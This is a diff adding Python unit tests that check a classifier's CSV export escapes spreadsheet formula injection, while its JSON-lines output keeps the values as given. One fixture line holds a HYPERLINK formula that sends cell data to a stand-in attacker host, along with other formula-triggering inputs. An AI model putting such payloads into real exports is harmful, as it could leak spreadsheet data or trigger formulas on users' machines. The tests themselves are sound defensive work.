@@ -133,6 +133,33 @@ def test_csv_output_has_an_id_column_only_when_ids_were_given() -> None:
     assert without_ids.decode().splitlines()[0] == "index,label,score,scores"
 
 
+FORMULA_IDS = ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "+1+2", "-2+3", "@SUM(A1)"]
+FORMULA_IDS += ["\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
+    rows = [InputRow("t", row_id) for row_id in FORMULA_IDS] + [
+        InputRow("t", -5),
+        InputRow("t", 2.5),
+    ]
+    scores = [SCORES[0]] * len(rows)
+    labels = [[{"label": "=cmd", "score": 0.9}, {"label": "ok", "score": 0.1}]]
+
+    body = render_output(result_rows(0, rows, scores), "csv")
+    label_body = render_output(result_rows(0, [InputRow("t")], labels), "csv")
+
+    parsed = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
+    assert [row["id"] for row in parsed] == ["'" + row_id for row_id in FORMULA_IDS] + ["-5", "2.5"]
+    assert all(not row["id"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in parsed[:-2])
+    assert next(csv.DictReader(io.StringIO(label_body.decode())))["label"] == "'=cmd"
+
+
+def test_json_lines_keep_formula_like_ids_as_they_were() -> None:
+    results = result_rows(0, [InputRow("t", FORMULA_IDS[0])], SCORES[:1])
+
+    assert json.loads(render_output(results, "jsonl"))["id"] == FORMULA_IDS[0]
+
+
 def test_chunks_cover_every_item_once_in_order() -> None:
     spans = chunk_spans(130, 64)
 
